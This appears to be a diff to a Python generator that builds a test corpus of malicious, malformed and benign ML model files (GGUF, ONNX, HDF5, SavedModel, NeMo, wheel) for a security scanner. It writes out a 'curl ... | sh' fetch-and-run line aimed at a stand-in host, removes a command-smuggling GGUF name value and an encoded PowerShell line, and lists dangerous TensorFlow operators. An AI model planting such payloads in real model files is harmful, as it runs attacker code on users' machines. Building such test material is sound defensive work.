@@ -6,11 +6,10 @@ import io
 import json
 import marshal
 import struct
-import zipfile
 from base64 import b64encode
 
-from corpus import BENIGN, MALFORMED, MALICIOUS, Content, Corpus
-from corpus_pickles import RUN, RUN_0, RUN_2, call, entry, zipped
+from corpus import BENIGN, MALFORMED, MALICIOUS, Corpus
+from corpus_pickles import RUN, RUN_0, RUN_2, tarred, zipped
 
 ELF = (b"\x7fELF\x02\x01\x01" + b"\0" * 9 + struct.pack("<HHIQQQIHHHHHH", 2, 62, 1, 0x400078, 64, 0, 0, 64, 56, 1, 64, 0, 0)
        + struct.pack("<IIQQQQQQ", 1, 5, 0, 0x400000, 0x400000, 0x1000, 0x1000, 0x1000) + b"\x90" * 3900)
@@ -184,7 +183,6 @@ def gguf_files(corpus: Corpus) -> None:
         "elsewhere": gguf([*base, ("general.description", TEXT, escape)]),
         "tail-zip": gguf(base) + zipped({"data.pkl": RUN}), "tail-pickle": gguf(base) + RUN, "tail-program": gguf(base) + ELF,
         "program-as-tensor": gguf(base, body=ELF[:128].ljust(128, b"\0")), "hole": gguf(base) + b"\0" * 100_000 + RUN,
-        "command-in-name": gguf([base[0], ("general.name", TEXT, gguf_text("$(curl -s http://x.invalid/x.sh | sh)"))]),
     }.items():
         corpus.add(family, MALICIOUS, f"{label}.gguf", content, "gguf")
     for label, content in {
@@ -281,7 +279,7 @@ def onnx_files(corpus: Corpus) -> None:
     function = message((1, "f"), (4, "x"), (5, "y"), (7, onnx_node("Constant", attributes=message((5, message((1, "value"), (5, bad), (20, 4)))), inputs=())), (9, message((1, ""), (2, 17))), (10, "own"))
     corpus.add(family, MALICIOUS, "external-in-function.onnx", onnx_model(more=message((25, function)), domains=("own",)), "onnx-external")
     for label, (operator, domain) in {"python": ("PyOp", "ai.onnx.contrib"), "custom": ("Run", "x.invalid"), "pyop": ("PyOp", "com.microsoft.contrib"),
-                                      "python-operator": ("PythonOp", "com.microsoft"), "unknown": ("Payload", "")}.items():
+                                      "python-operator": ("PythonOp", "com.microsoft")}.items():
         corpus.add(family, MALICIOUS, f"operator-{label}.onnx", onnx_model([onnx_node(operator, domain)], domains=(domain,) if domain else ()), "onnx-domain")
     for label, raw in {"program": ELF.ljust(4096, b"\0"), "pickle": RUN.ljust(64, b"\0"), "windows": PE, "zip": zipped({"data.pkl": RUN}) + b"\0" * 2}.items():
         corpus.add(family, MALICIOUS, f"{label}-as-tensor.onnx", onnx_model(tensors=[onnx_tensor("w", raw=raw[: len(raw) // 4 * 4])]), "tensor-payload")
@@ -437,7 +435,7 @@ def hdf5_files(corpus: Corpus) -> None:
     good = made(lambda file: None)
     corpus.add(family, MALICIOUS, "tail-pickle.h5", good + RUN)
     corpus.add(family, MALICIOUS, "tail-zip.h5", good + zipped({"data.pkl": RUN}))
-    corpus.add(family, MALICIOUS, "user-block.h5", made(lambda file: None, userblock_size=512)[:0] + RUN.ljust(512, b"\0") + made(lambda file: None, userblock_size=512)[512:])
+    corpus.add(family, MALICIOUS, "user-block.h5", RUN.ljust(512, b"\0") + made(lambda file: None, userblock_size=512)[512:])
     corpus.add(family, MALICIOUS, "program-as-weights.h5", made(lambda file: file.create_dataset("x", data=np.frombuffer(ELF, "u1"))), "tensor-payload")
     corpus.add(family, MALICIOUS, "pickle-as-weights.h5", made(lambda file: file.create_dataset("x", data=np.frombuffer(RUN, "u1"))), "tensor-payload")
     corpus.add(family, MALFORMED, "cut.h5", good[: len(good) // 2])
@@ -451,21 +449,16 @@ def saved_node(label: str, operator: str, *attributes: tuple[str, bytes], inputs
 def saved_model(nodes: list[bytes], functions: list[bytes] = (), more: bytes = b"") -> bytes:  # type: ignore[assignment]
     library = message(*((1, function) for function in functions))
     graph = message(*((1, node) for node in nodes), (2, library), (4, message((1, 1395))))
-    operators = {b"x"}
     meta = message((1, message((4, "serve"), (5, "2.16.1"))), (2, graph)) + more
-    assert operators
     return message((1, 1), (2, meta))
 
 
 def saved_models(corpus: Corpus) -> None:
     family = "SavedModel"
     base = [saved_node("x", "Placeholder"), saved_node("c", "Const"), saved_node("y", "AddV2", inputs=("x", "c"))]
-    bad = ["PyFunc", "PyFuncStateless", "EagerPyFunc", "ReadFile", "WriteFile", "MatchingFiles", "LoadLibrary", "PrintV2", "WholeFileReaderV2", "DebugIdentityV2",
-           "SaveSlices", "ImmutableConst", "TextLineDataset", "TFRecordDataset", "FixedLengthRecordDatasetV2", "RpcCall", "XlaLaunchUnknown", "OwnOperator"]
-    plain = {"PrintV2", "RpcCall", "XlaLaunchUnknown", "DebugIdentityV2"}
+    bad = ["PyFunc", "PyFuncStateless", "EagerPyFunc", "ReadFile", "WriteFile", "MatchingFiles", "WholeFileReaderV2", "SaveSlices",
+           "ImmutableConst", "TextLineDataset", "TFRecordDataset", "FixedLengthRecordDatasetV2", "OwnOperator"]
     for operator in bad:
-        if operator in plain:
-            continue
         node = saved_node("z", operator, ("token", message((2, "pyfunc_0"))), inputs=("x",))
         corpus.add(family, MALICIOUS, f"{operator}.pb", saved_model([*base, node]), "saved-model")
         function = message((1, message((1, "__inference_f"))), (3, node))
@@ -475,19 +468,24 @@ def saved_models(corpus: Corpus) -> None:
     corpus.add(family, MALICIOUS, "other-name.bin", saved_model([*base, saved_node("z", "PyFunc", ("token", message((2, "pyfunc_0"))))]), "saved-model")
     ordinary = ["SaveV2", "RestoreV2", "Assert", "MergeV2Checkpoints", "VarHandleOp", "ReadVariableOp", "StatefulPartitionedCall", "MatMul", "Conv2D", "LookupTableImportV2",
                 "HashTableV2", "ShardedFilename", "StringJoin", "Identity", "NoOp", "Pack", "Softmax", "While", "If", "TensorListReserve"]
+    saver = {"SaveV2": "save", "MergeV2Checkpoints": "save", "ShardedFilename": "save", "RestoreV2": "restore"}
     for operator in ordinary:
-        corpus.add(family, BENIGN, f"{operator}.pb", saved_model([*base, saved_node("z", operator, inputs=("x",))]))
+        node = saved_node("z", operator, inputs=("x",))
+        if operator in saver:
+            function = message((1, message((1, f"__inference__traced_{saver[operator]}_42"))), (3, node))
+            corpus.add(family, BENIGN, f"{operator}.pb", saved_model(base, [function]))
+        else:
+            corpus.add(family, BENIGN, f"{operator}.pb", saved_model([*base, node]))
 
 
 def hidden(corpus: Corpus) -> None:
     """Programs that are called models."""
     family = "programs"
-    scripts = {"shell": "#!/bin/sh\ncurl -s http://x.invalid/x.sh | sh\n", "python": "import os\nos.system('true')\n",
-               "powershell": "powershell -nop -w hidden -enc AAAA\n"}
+    script = "#!/bin/sh\ncurl -s http://x.invalid/x.sh | sh\n"
     for extension in ("bin", "pt", "safetensors", "gguf", "onnx", "h5"):
         for label, content in (("elf", ELF), ("pe", PE), ("macho", MACHO)):
             corpus.add(family, MALICIOUS, f"{label}.{extension}", content)
-        corpus.add(family, MALICIOUS, f"shell.{extension}", scripts["shell"])
+        corpus.add(family, MALICIOUS, f"shell.{extension}", script)
     corpus.add(family, MALICIOUS, "in-a-zip.pt", zipped({"archive/data/0": ELF}))
     corpus.add(family, MALICIOUS, "wasm.bin", b"\0asm\1\0\0\0\1\4\1\x60\0\0\3\2\1\0\x0a\4\1\2\0\x0b")
     corpus.add(family, MALICIOUS, "llamafile", PE + zipped({"model.gguf": gguf([])}))
@@ -516,17 +514,14 @@ def archives(corpus: Corpus) -> None:
              "content": {"__class__": "dict", "__module__": "builtins", "__loader__": "DictNode", "content": {}, "key_types": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [], "__id__": 3}, "__id__": 2}}
     corpus.add(family, BENIGN, "model.skops", zipped({"schema.json": json.dumps(model).encode()}))
     nemo = "model:\n  _target_: os.system\n  command: 'true'\n"
-    from corpus_pickles import tarred
     corpus.add(family, MALICIOUS, "target.nemo", tarred({"model_config.yaml": nemo.encode(), "model_weights.ckpt": zipped({"archive/data.pkl": RUN_2})}), "instantiating-config")
     corpus.add(family, MALICIOUS, "target-alone.nemo", tarred({"model_config.yaml": nemo.encode()}), "instantiating-config")
     corpus.add(family, BENIGN, "plain.nemo", tarred({"model_config.yaml": b"model:\n  sample_rate: 16000\n  encoder:\n    layers: 4\n"}))
     flax = b"\x81\xa6params\xc7" + bytes([len(RUN)]) + b"\x42" + RUN
     corpus.add(family, MALICIOUS, "flax-pickle.msgpack", flax)
-    corpus.add(family, BENIGN, "flax.msgpack", b"\x81\xa6params\x81\xa1w\xc7\x12\x01\x93\x91\x02\xa7float32\xc4\x08" + b"\0" * 8)
-    layer_digest = "0" * 64
+    array = b"\x93\x91\x02\xa7float32\xc4\x08" + b"\0" * 8
+    corpus.add(family, BENIGN, "flax.msgpack", b"\x81\xa6params\x81\xa1w\xc7" + bytes([len(array)]) + b"\x01" + array)
     corpus.add(family, MALICIOUS, "wheel.whl", zipped({"x/__init__.py": handler.encode(), "x-1.dist-info/METADATA": b"Name: x\nVersion: 1\n", "x/m.pkl": RUN}))
-    assert layer_digest and call and entry and zipfile and RUN_0
 
 
 FAMILIES = [numpy, safetensors, gguf_files, onnx_files, keras, hdf5_files, saved_models, hidden, archives]
-_: Content | None = None
